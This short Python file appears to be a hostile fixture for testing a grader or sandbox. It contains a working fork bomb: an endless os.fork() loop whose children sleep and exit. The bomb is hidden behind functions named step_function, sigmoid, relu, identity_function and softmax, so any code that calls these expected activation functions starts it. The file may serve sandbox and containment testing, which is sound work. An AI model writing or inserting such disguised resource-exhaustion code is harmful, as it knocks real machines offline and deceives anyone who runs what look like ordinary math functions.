"""Hostile: fork without end. Each child sleeps a little and leaves (so a machine
without a jail recovers), but the loop never stops forking. No honest work: 0 points."""
import os
import time


def _bomb():
    while True:
        try:
            pid = os.fork()
        except OSError:
            continue
        if pid == 0:
            time.sleep(20)
            os._exit(0)


def step_function(x):
    _bomb()


sigmoid = relu = identity_function = softmax = step_function
